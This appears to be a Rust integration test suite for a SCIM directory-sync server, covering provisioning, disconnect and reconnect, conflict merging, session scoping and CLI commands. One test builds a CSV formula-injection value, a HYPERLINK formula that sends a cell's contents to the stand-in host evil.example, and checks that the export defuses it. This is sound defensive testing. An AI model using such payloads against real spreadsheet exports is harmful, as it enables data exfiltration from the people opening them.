//! The directory's story on the real binary (docs/contract.md, "Directory semantics"), through the SCIM API, the
//! administrative API and the CLI: provision 100 users, edit a local property, be refused an
//! edit of an imported attribute, disconnect, edit it, reconnect with a new token,
//! re-provision into conflicts, merge them all, provision again — no errors, no duplicates, no
//! account lost.

use crate::common::{Reply, Server, add_admin, cli, filter_eq};
use serde_json::{Value, json};
use std::collections::HashSet;

const USERS: usize = 100;

fn user_name(i: usize) -> String {
    format!("person{i:03}@example.com")
}

fn user_body(i: usize) -> Value {
    json!({
        "schemas": ["urn:ietf:params:scim:schemas:core:2.0:User"],
        "userName": user_name(i),
        "externalId": format!("ext-{i}"),
        "name": { "givenName": "Person", "familyName": format!("{i:03}") },
        "displayName": format!("Person {i:03}"),
        "active": true
    })
}

/// Asserts an administrative API answer's status (its bodies are plain JSON, not SCIM).
fn status(r: &Reply, code: u16) {
    assert_eq!(
        r.status,
        code,
        "{} {} -> {}",
        r.method,
        r.url,
        &r.text[..r.text.len().min(2000)]
    );
}

/// An administrator signed in to the administrative API.
struct AdminApi<'a> {
    server: &'a Server,
    session: String,
}

impl AdminApi<'_> {
    fn url(&self, path: &str) -> String {
        format!("{}/api/v1{path}", self.server.origin)
    }
    async fn get(&self, path: &str) -> Reply {
        self.server.client.get(&self.url(path), &self.session).await
    }
    async fn post(&self, path: &str, body: &Value) -> Reply {
        self.server
            .client
            .post(&self.url(path), body, &self.session)
            .await
    }
    async fn patch(&self, path: &str, body: &Value) -> Reply {
        self.server
            .client
            .patch(&self.url(path), body, &self.session)
            .await
    }
}

async fn sign_in<'a>(server: &'a Server, org: &str, email: &str, password: &str) -> AdminApi<'a> {
    let r = server
        .client
        .post(
            &format!("{}/api/v1/sessions", server.origin),
            &json!({ "organisation": org, "email": email, "password": password }),
            "",
        )
        .await;
    assert_eq!(r.status, 201, "{}", r.text);
    AdminApi {
        server,
        session: r.json()["token"]
            .as_str()
            .expect("session token")
            .to_owned(),
    }
}

/// What Entra does for each user in a cycle: look the user up by userName, then create it,
/// or update it when found. Returns the statuses seen.
async fn provision(server: &Server, token: &str, i: usize) -> (u16, u16) {
    let found = server
        .client
        .get(
            &format!("/Users?{}", filter_eq("userName", &user_name(i))),
            token,
        )
        .await;
    assert_eq!(found.status, 200, "{}", found.text);
    match found.json()["Resources"].as_array().and_then(|r| r.first()) {
        None => {
            let created = server.client.post("/Users", &user_body(i), token).await;
            (found.status, created.status)
        }
        Some(existing) => {
            let id = existing["id"].as_str().expect("id");
            let patched = server
                .client
                .patch(
                    &format!("/Users/{id}"),
                    &json!({"schemas": ["urn:ietf:params:scim:api:messages:2.0:PatchOp"],
                    "Operations": [
                        {"op": "Replace", "path": "displayName", "value": format!("Person {i:03}")},
                        {"op": "Replace", "path": "active", "value": "True"}
                    ]}),
                    token,
                )
                .await;
            (found.status, patched.status)
        }
    }
}

async fn cycle(server: &Server, token: &str) -> Vec<u16> {
    let mut out = Vec::new();
    for i in 0..USERS {
        out.push(provision(server, token, i).await.1);
    }
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn provision_disconnect_reconnect_merge_provision_again() {
    let server = Server::start();
    let org = server.org.id.clone();
    add_admin(&server, &org, "it@example.com", "correct horse battery");
    let admin = sign_in(&server, &org, "IT@example.com", "correct horse battery").await;

    // 1. Provision 100 users over SCIM.
    let statuses = cycle(&server, &server.org.token).await;
    assert!(statuses.iter().all(|s| *s == 201), "{statuses:?}");

    let page = admin.get("/accounts?count=1000").await;
    status(&page, 200);
    assert_eq!(page.json()["total"], USERS);
    let first = page.json()["accounts"][0].clone();
    assert_eq!(first["source"], "scim");
    assert_eq!(first["managedBy"], "directory sync");
    assert_eq!(first["local"]["roles"], json!(["staff"]));
    let id = first["id"].as_str().expect("id").to_owned();
    let scim_before = server.api().get(&format!("/Users/{id}")).await;
    scim_before.expect(200);

    // 2. A local property through the API: allowed, invisible to SCIM, no new version.
    let edited = admin
        .patch(
            &format!("/accounts/{id}"),
            &json!({ "local": { "roles": ["manager"], "locations": ["Head Office"] } }),
        )
        .await;
    status(&edited, 200);
    assert_eq!(edited.json()["local"]["locations"], json!(["Head Office"]));
    let scim_after = server.api().get(&format!("/Users/{id}")).await;
    assert_eq!(scim_after.header("etag"), scim_before.header("etag"));
    assert!(!scim_after.text.contains("Head Office"));

    // 3. An imported attribute: refused, naming directory sync.
    let refused = admin
        .patch(
            &format!("/accounts/{id}"),
            &json!({ "attributes": { "displayName": "Edited by hand" } }),
        )
        .await;
    assert_eq!(refused.status, 403, "{}", refused.text);
    assert_eq!(refused.json()["error"], "read_only");
    assert!(
        refused.json()["message"]
            .as_str()
            .expect("message")
            .contains("directory sync")
    );

    // 4. Disconnect: tokens revoked, accounts manual, nothing deleted.
    let disconnected = admin.post("/disconnect", &json!({})).await;
    status(&disconnected, 200);
    assert_eq!(disconnected.json()["tokensRevoked"], 1);
    assert_eq!(disconnected.json()["accountsAndGroupsReleased"], USERS);
    server.api().get("/Users").await.expect(401);
    let connection = admin.get("/connection").await;
    assert_eq!(connection.json()["state"], "disconnected");

    // 5. Now the imported attribute is the administrators' to edit.
    let by_hand = admin
        .patch(
            &format!("/accounts/{id}"),
            &json!({ "attributes": { "displayName": "Edited by hand" } }),
        )
        .await;
    status(&by_hand, 200);
    assert_eq!(by_hand.json()["source"], "manual");
    assert_eq!(
        by_hand.json()["attributes"]["displayName"],
        "Edited by hand"
    );

    // 6. A new token reconnects; the earlier connection's accounts surface as conflicts.
    let token = admin.post("/tokens", &json!({})).await;
    status(&token, 201);
    let token = token.json()["secret"].as_str().expect("secret").to_owned();
    let statuses = cycle(&server, &token).await;
    assert!(statuses.iter().all(|s| *s == 409), "{statuses:?}");
    // A retry does not record a conflict twice.
    assert_eq!(provision(&server, &token, 0).await.1, 409);
    let conflicts = admin.get("/conflicts").await;
    status(&conflicts, 200);
    let list = conflicts.json()["conflicts"].as_array().expect("conflicts");
    assert_eq!(list.len(), USERS);
    assert_eq!(
        list.iter()
            .find(|c| c["userName"] == user_name(0))
            .expect("first")["attempts"],
        2
    );
    let csv = admin.get("/conflicts.csv").await;
    status(&csv, 200);
    assert!(csv.content_type().starts_with("text/csv"));
    assert_eq!(csv.text.lines().count(), USERS + 1);

    // 7. Merge them all; the next cycle finds every account and updates it.
    let merged = admin.post("/conflicts/merge-all", &json!({})).await;
    status(&merged, 200);
    assert_eq!(merged.json()["merged"], USERS);
    assert_eq!(admin.get("/conflicts").await.json()["conflicts"], json!([]));
    let statuses = cycle(&server, &token).await;
    assert!(statuses.iter().all(|s| *s == 200), "{statuses:?}");

    // 8. No errors, no duplicates, no account lost; local properties survived it all.
    let page = admin.get("/accounts?count=1000").await;
    assert_eq!(page.json()["total"], USERS);
    let accounts = page.json()["accounts"].as_array().expect("accounts");
    let names: HashSet<&str> = accounts
        .iter()
        .map(|a| a["userName"].as_str().expect("userName"))
        .collect();
    assert_eq!(names.len(), USERS);
    assert!(
        accounts
            .iter()
            .all(|a| a["source"] == "scim" && a["status"] == "active")
    );
    let kept = admin.get(&format!("/accounts/{id}")).await;
    assert_eq!(kept.json()["local"]["roles"], json!(["manager"]));
    let listed = server
        .client
        .get("/Users?count=1000&attributes=userName", &token)
        .await;
    assert_eq!(listed.total(), USERS as u64);

    // Every administrative act is in the activity log.
    let log = admin.get("/activity?limit=10000").await;
    let actions: HashSet<&str> = log.json()["entries"]
        .as_array()
        .expect("entries")
        .iter()
        .filter_map(|e| e["action"].as_str())
        .collect();
    for act in [
        "signin",
        "account.edit",
        "disconnect",
        "token.generate",
        "conflict.record",
        "conflict.merge",
    ] {
        assert!(actions.contains(act), "{act} missing from {actions:?}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sessions_are_checked_and_scoped_to_one_organisation() {
    let server = Server::start();
    let other = server.second_org();
    add_admin(&server, &server.org.id, "a@example.com", "password one");
    add_admin(&server, &other.id, "b@example.com", "password two");
    // Wrong password, unknown address, another organisation's admin: all the same 401.
    for (org, email, password) in [
        (&server.org.id, "a@example.com", "wrong"),
        (&server.org.id, "nobody@example.com", "password one"),
        (&server.org.id, "b@example.com", "password two"),
    ] {
        let r = server
            .client
            .post(
                &format!("{}/api/v1/sessions", server.origin),
                &json!({ "organisation": org, "email": email, "password": password }),
                "",
            )
            .await;
        assert_eq!(r.status, 401, "{}", r.text);
        assert_eq!(r.json()["error"], "unauthenticated");
    }
    // A SCIM token is not a session, and no session is no access.
    let scim_token = server.org.token.clone();
    let r = server
        .client
        .get(&format!("{}/api/v1/accounts", server.origin), &scim_token)
        .await;
    assert_eq!(r.status, 401);

    let b = sign_in(&server, &other.id, "b@example.com", "password two").await;
    let created = server.api().post("/Users", &user_body(1)).await;
    created.expect(201);
    let a_user = created.id();
    status(&b.get(&format!("/accounts/{a_user}")).await, 404);
    let edit = b
        .patch(
            &format!("/accounts/{a_user}"),
            &json!({ "local": { "roles": ["x"] } }),
        )
        .await;
    assert_eq!(edit.status, 404);
    assert_eq!(b.get("/accounts").await.json()["total"], 0);
    // Bad input is a 400 in the API's shape, and changes nothing.
    let bad = b
        .post("/accounts", &json!({ "attributes": { "userName": "" } }))
        .await;
    assert_eq!(bad.status, 400, "{}", bad.text);
    let bad = b.post("/accounts", &json!({ "surprise": 1 })).await;
    assert_eq!(bad.status, 400, "{}", bad.text);
    assert_eq!(b.get("/accounts").await.json()["total"], 0);
    // Signed out, the session is gone.
    let out = server
        .client
        .delete(
            &format!("{}/api/v1/sessions/current", server.origin),
            &b.session,
        )
        .await;
    assert_eq!(out.status, 204);
    assert_eq!(b.get("/accounts").await.status, 401);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn scim_delete_holds_the_user_name_and_the_cli_resolves_conflicts() {
    let server = Server::start();
    let api = server.api();
    let created = api.post("/Users", &user_body(7)).await;
    created.expect(201);
    let id = created.id();
    api.delete(&format!("/Users/{id}")).await.expect(204);
    api.get(&format!("/Users/{id}")).await.expect(404);
    let again = api.post("/Users", &user_body(7)).await;
    let err = again.expect_error(409, Some("uniqueness"));
    assert!(
        err["detail"]
            .as_str()
            .expect("detail")
            .contains("reserved until"),
        "{err}"
    );

    // A manual account from the CLI's point of view: accounts list shows it deactivated.
    let listed = cli(&[
        "accounts",
        "list",
        "--org",
        &server.org.id,
        "--status",
        "deactivated",
        "--format",
        "json",
        "--database",
        &server.database,
    ]);
    let listed: Value = serde_json::from_str(&listed).expect("json");
    assert_eq!(listed["total"], 1);
    assert_eq!(listed["accounts"][0]["userName"], user_name(7));

    // Disconnect and reconnect from the CLI; the conflict is listed and merged there too.
    api.post("/Users", &user_body(8)).await.expect(201);
    let db = server.database.clone();
    let org = server.org.id.clone();
    cli(&["disconnect", "--org", &org, "--database", &db]);
    let token = cli(&["token", "generate", "--org", &org, "--database", &db]);
    let retry = server.client.post("/Users", &user_body(8), &token).await;
    retry.expect_error(409, Some("uniqueness"));
    let conflicts = cli(&[
        "conflicts",
        "list",
        "--org",
        &org,
        "--format",
        "json",
        "--database",
        &db,
    ]);
    let conflicts: Value = serde_json::from_str(&conflicts).expect("json");
    assert_eq!(conflicts.as_array().map(Vec::len), Some(1));
    assert_eq!(conflicts[0]["userName"], user_name(8));
    let csv = cli(&["conflicts", "download", "--org", &org, "--database", &db]);
    assert!(csv.contains(&user_name(8)), "{csv}");
    cli(&[
        "conflicts",
        "merge",
        "--all",
        "--org",
        &org,
        "--database",
        &db,
    ]);
    let found = server
        .client
        .get(
            &format!("/Users?{}", filter_eq("userName", &user_name(8))),
            &token,
        )
        .await;
    assert_eq!(found.total(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn conflicts_csv_defuses_formulas_behind_tabs_and_blanks() {
    let server = Server::start();
    let db = server.database.clone();
    let org = server.org.id.clone();
    server.api().post("/Users", &user_body(9)).await.expect(201);
    // Disconnected, the account is manual; the next connection's create of it is a conflict.
    cli(&["disconnect", "--org", &org, "--database", &db]);
    let token = cli(&["token", "generate", "--org", &org, "--database", &db]);
    let display = "\t=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
    let mut hostile = user_body(9);
    hostile["displayName"] = json!(display);
    hostile["externalId"] = json!(" =1+2");
    let refused = server.client.post("/Users", &hostile, &token).await;
    refused.expect_error(409, Some("uniqueness"));

    let csv = cli(&["conflicts", "download", "--org", &org, "--database", &db]);
    let row = csv
        .lines()
        .find(|l| l.starts_with(&user_name(9)))
        .unwrap_or_else(|| panic!("no conflict row in:\n{csv}"));
    // Each value starts with ' inside its quotes, so a spreadsheet shows it as text.
    assert!(
        row.contains(",\"'\t=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\","),
        "{row:?}"
    );
    assert!(row.contains(",\"' =1+2\","), "{row:?}");
}

/// A thousand groups, each a member of the next through `bulkId`, listed last group first:
/// every reference waits on a later operation, so the chain resolves from its far end.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_bulk_chain_of_a_thousand_groups_listed_backwards_resolves() {
    const N: usize = 1000;
    let server = Server::start();
    let api = server.api();
    // Group k has group k - 1 as its member; the request starts with group N - 1.
    let operations: Vec<Value> = (0..N)
        .rev()
        .map(|k| {
            let members = if k == 0 {
                json!([])
            } else {
                json!([{ "type": "Group", "value": format!("bulkId:g{}", k - 1) }])
            };
            json!({
                "method": "POST",
                "path": "/Groups",
                "bulkId": format!("g{k}"),
                "data": {
                    "schemas": ["urn:ietf:params:scim:schemas:core:2.0:Group"],
                    "displayName": format!("Chain {k:04}"),
                    "members": members
                }
            })
        })
        .collect();
    let r = api
        .post(
            "/Bulk",
            &json!({
                "schemas": ["urn:ietf:params:scim:api:messages:2.0:BulkRequest"],
                "Operations": operations
            }),
        )
        .await;
    r.expect(200);
    let results = r.json()["Operations"].as_array().expect("Operations");
    assert_eq!(results.len(), N);
    // Results come in request order, each with its bulkId and the id it created.
    let mut ids = vec![String::new(); N];
    for (j, res) in results.iter().enumerate() {
        let k = N - 1 - j;
        assert_eq!(res["bulkId"], json!(format!("g{k}")), "{res}");
        assert_eq!(res["status"], json!("201"), "{res}");
        let location = res["location"].as_str().expect("location");
        ids[k] = location.rsplit('/').next().expect("id").to_owned();
    }
    let page = api
        .get("/Groups?count=1000&attributes=displayName,members")
        .await;
    let groups = page.expect_list()["Resources"]
        .as_array()
        .expect("Resources")
        .clone();
    assert_eq!(groups.len(), N);
    for g in &groups {
        let name = g["displayName"].as_str().expect("displayName");
        let k: usize = name["Chain ".len()..].parse().expect("number");
        assert_eq!(g["id"], json!(ids[k]), "{g}");
        let members: Vec<&str> = g["members"]
            .as_array()
            .map(|m| m.iter().filter_map(|m| m["value"].as_str()).collect())
            .unwrap_or_default();
        let want: Vec<&str> = if k == 0 { vec![] } else { vec![&ids[k - 1]] };
        assert_eq!(members, want, "{g}");
    }
}
